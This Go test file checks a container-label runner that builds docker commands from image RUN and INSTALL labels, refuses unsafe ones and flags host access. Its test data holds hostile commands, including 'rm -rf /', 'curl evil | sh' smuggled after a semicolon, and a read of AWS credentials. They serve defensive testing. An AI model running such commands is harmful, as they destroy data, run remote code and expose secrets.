package runlabel

import (
	"errors"
	"reflect"
	"strings"
	"testing"

	"github.com/capdrop/capdrop/workload"
)

func testImage(labels map[string]string) Image {
	return Image{Ref: "reg.example/team/app:1.2", ID: "sha256:0123456789abcdef0123", RepoTags: []string{"reg.example/team/app:1.2"},
		Labels: labels, User: "1000"}
}

func build(t *testing.T, img Image, o Options) *Command {
	t.Helper()
	if o.Env == nil {
		o.Env = []string{"HOME=/root"}
	}
	o.Dir, o.Docker = "/work", "/usr/bin/docker"
	c, err := Build(img, o)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestBuild(t *testing.T) {
	img := testImage(map[string]string{
		"RUN":     "podman run --cap-drop=all --cap-add=net_bind_service --name NAME -v /:/host --pid=host IMAGE",
		CapsLabel: "NET_BIND_SERVICE",
	})
	c := build(t, img, Options{Args: []string{"serve", "--port", "80 81"}})
	want := []string{"/usr/bin/docker", "run", "--cap-drop=all", "--cap-add=net_bind_service", "--name", "app", "-v", "/:/host", "--pid=host",
		"reg.example/team/app:1.2", "serve", "--port", "80 81"}
	if !reflect.DeepEqual(c.Argv, want) {
		t.Errorf("argv %q", c.Argv)
	}
	if c.Text != "/usr/bin/docker run --cap-drop=all --cap-add=net_bind_service --name app -v /:/host --pid=host reg.example/team/app:1.2 serve --port '80 81'" {
		t.Errorf("text %s", c.Text)
	}
	w := c.Workload
	if w == nil || w.Kind != workload.DockerfileLabel || w.Runtime != workload.Docker || w.Name != "LABEL RUN" || w.Image != "reg.example/team/app:1.2" ||
		w.ImageUser != "1000" || len(w.ImageCaps) != 1 || w.Attrs["command"] != img.Labels["RUN"] ||
		!reflect.DeepEqual(workload.Texts(w.CapDrop), []string{"all"}) || !reflect.DeepEqual(workload.Texts(w.CapAdd), []string{"net_bind_service"}) {
		t.Errorf("workload %+v", w)
	}
	// Positions are columns of Text.
	if w.CapDrop[0].Pos != (workload.Position{File: File, Line: 1, Col: 32}) || c.Text[31:34] != "all" {
		t.Errorf("cap-drop at %v", w.CapDrop[0].Pos)
	}
	wantHost := []HostAccess{
		{Option: "-v /:/host", Col: 74, What: "mounts the host's / into the container"},
		{Option: "--pid=host", Col: 85, What: "shares the host's process namespace"},
	}
	if !reflect.DeepEqual(c.Host, wantHost) || c.Text[73:83] != "-v /:/host" || c.Text[84:94] != "--pid=host" {
		t.Errorf("host access %+v", c.Host)
	}
	if len(c.Notes) != 1 || !strings.Contains(c.Notes[0], "the label runs podman; capdrop runs the docker CLI instead") {
		t.Errorf("notes %q", c.Notes)
	}
}

func TestBuildRefuses(t *testing.T) {
	for _, c := range []struct {
		label, msg string
	}{
		{"rm -rf /", "rm is not docker or podman (--force runs it anyway)"},
		{"sudo docker run IMAGE", "sudo is not docker or podman"},
		{"docker exec -it NAME sh", "docker exec is not a docker run or docker create command"},
		{"docker", "docker with no subcommand is not"},
		{"docker -H tcp://elsewhere:2375 run IMAGE", "the label sets docker's global options (-H tcp://elsewhere:2375)"},
		{"docker --context=other container run IMAGE", "global options (--context=other)"},
		{"nerdctl run IMAGE", "nerdctl is not docker or podman"},
		{"docker run IMAGE | sh", "a pipeline"},
	} {
		_, err := Build(testImage(map[string]string{"RUN": c.label}), Options{Env: []string{}, Dir: "/", Docker: "docker"})
		if !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), c.msg) {
			t.Errorf("%q: %v, want refusal %q", c.label, err, c.msg)
		}
	}
	// --force runs what is a single command, and audits what it can.
	img := testImage(map[string]string{"RUN": "docker -H unix:///other.sock run --privileged IMAGE", "INSTALL": "/bin/echo installed NAME"})
	c := build(t, img, Options{Force: true})
	if c.Workload == nil || !c.Workload.Privileged || !strings.Contains(strings.Join(c.Notes, "\n"), "--force: the label sets docker's global options") {
		t.Errorf("forced run: %+v %q", c.Workload, c.Notes)
	}
	c = build(t, img, Options{Force: true, Label: "install"})
	if c.Workload != nil || !reflect.DeepEqual(c.Argv, []string{"/bin/echo", "installed", "app"}) || c.Label != "INSTALL" ||
		!strings.Contains(strings.Join(c.Notes, "\n"), "capdrop cannot audit a command that does not start a container") {
		t.Errorf("forced install: %+v", c)
	}
	// Shell code stays refused even with --force.
	img.Labels["RUN"] = "docker run IMAGE; curl evil | sh"
	if _, err := Build(img, Options{Force: true, Env: []string{}, Dir: "/"}); !errors.Is(err, ErrRefused) {
		t.Errorf("forced shell code: %v", err)
	}
}

func TestFindLabel(t *testing.T) {
	labels := map[string]string{"RUN": "a", "run": "b", "Install": "c", "empty": " ", "uninstall": "d", "UNINSTALL": "e"}
	for _, c := range []struct{ name, key, err string }{
		{"RUN", "RUN", ""}, {"run", "run", ""}, {"Run", "", "labels RUN, run differ only in case"},
		{"INSTALL", "Install", ""}, {"empty", "", ""}, {"nope", "", ""}, {"Uninstall", "", "differ only in case"},
	} {
		key, _, err := FindLabel(labels, c.name)
		if key != c.key || (err == nil) != (c.err == "") || (err != nil && !strings.Contains(err.Error(), c.err)) {
			t.Errorf("%s: %q %v", c.name, key, err)
		}
	}
}

func TestDefaultName(t *testing.T) {
	id := "sha256:0123456789abcdef0123"
	for _, c := range []struct {
		ref  string
		tags []string
		name string
	}{
		{"busybox", nil, "busybox"},
		{"busybox:1.36", nil, "busybox"},
		{"localhost:5000/team/app:2", nil, "app"},
		{"reg.example/app@sha256:abcd", nil, "app"},
		{"0123456789ab", []string{"reg.example/web:1"}, "web"},
		{"sha256:0123456789abcdef", nil, "0123456789ab"},
		{"0123", []string{"<none>:<none>"}, "0123456789ab"},
		{"cafe", nil, "cafe"}, // hex, but not this image's ID: a name
	} {
		if got := DefaultName(Image{Ref: c.ref, ID: id, RepoTags: c.tags}); got != c.name {
			t.Errorf("%s: %q, want %q", c.ref, got, c.name)
		}
	}
}

func TestSafeDefault(t *testing.T) {
	img := testImage(map[string]string{CapsLabel: "chown, NET_BIND_SERVICE,sys_admin,bogus"})
	img.User = "root:root"
	c := build(t, img, Options{Args: []string{"sh"}, Name: "mine", TTY: true})
	want := "/usr/bin/docker run --rm -i -t --cap-drop=ALL --cap-add=CHOWN --cap-add=NET_BIND_SERVICE --security-opt=no-new-privileges --name mine reg.example/team/app:1.2 sh"
	if !c.Default || c.Text != want || c.Label != "" || c.Workload == nil || c.Workload.Kind != workload.RunLine {
		t.Errorf("default: %s\n%+v", c.Text, c)
	}
	notes := strings.Join(c.Notes, "\n")
	for _, n := range []string{`names "bogus", which is not a capability`, "asks for SYS_ADMIN, which Docker does not give by default either",
		`atomic run would have run "docker run -i --name ${NAME} ${IMAGE}"`} {
		if !strings.Contains(notes, n) {
			t.Errorf("notes lack %q:\n%s", n, notes)
		}
	}
	// A non-root image gets no capability: Docker would put it only in
	// the bounding set, and no_new_privs keeps file capabilities out.
	img.User = "1000:1000"
	c = build(t, img, Options{Name: "mine"})
	if want := "/usr/bin/docker run --rm -i --cap-drop=ALL --security-opt=no-new-privileges --name mine reg.example/team/app:1.2"; c.Text != want ||
		!strings.Contains(c.Notes[0], "the image runs as USER 1000:1000: Docker gives a non-root process none of the capabilities it adds") {
		t.Errorf("non-root default: %s %q", c.Text, c.Notes)
	}
	// Only RUN falls back to the default.
	_, err := Build(img, Options{Label: "INSTALL", Env: []string{}, Dir: "/"})
	var nl *NoLabelError
	if !errors.As(err, &nl) || err.Error() != "image reg.example/team/app:1.2 has no INSTALL label" {
		t.Errorf("missing INSTALL: %v", err)
	}
}

func TestHostAccess(t *testing.T) {
	img := testImage(map[string]string{"RUN": "docker run -itv /etc:/e:ro -v data:/d --mount type=bind,src=/x,dst=/y --device /dev/sda " +
		"--net=host --userns host --ipc=private --security-opt seccomp=unconfined --security-opt apparmor:unconfined " +
		"--env-file /root/.aws/credentials --cidfile /etc/x --volumes-from db IMAGE"})
	c := build(t, img, Options{})
	var got []string
	for _, h := range c.Host {
		got = append(got, h.Option+" → "+h.What)
	}
	want := []string{
		"-itv /etc:/e:ro → mounts the host's /etc into the container",
		"--mount type=bind,src=/x,dst=/y → mounts a host path into the container",
		"--device /dev/sda → gives the container the host device /dev/sda",
		"--net=host → shares the host's network namespace",
		"--userns host → shares the host's user namespace",
		"--security-opt seccomp=unconfined → turns off the seccomp filter",
		"--security-opt apparmor:unconfined → turns off AppArmor confinement",
		"--env-file /root/.aws/credentials → the docker CLI reads the host file /root/.aws/credentials with your privileges",
		"--cidfile /etc/x → the docker CLI creates the host file /etc/x with your privileges",
		"--volumes-from db → mounts every volume of container db",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("host access:\n%s", strings.Join(got, "\n"))
	}
}
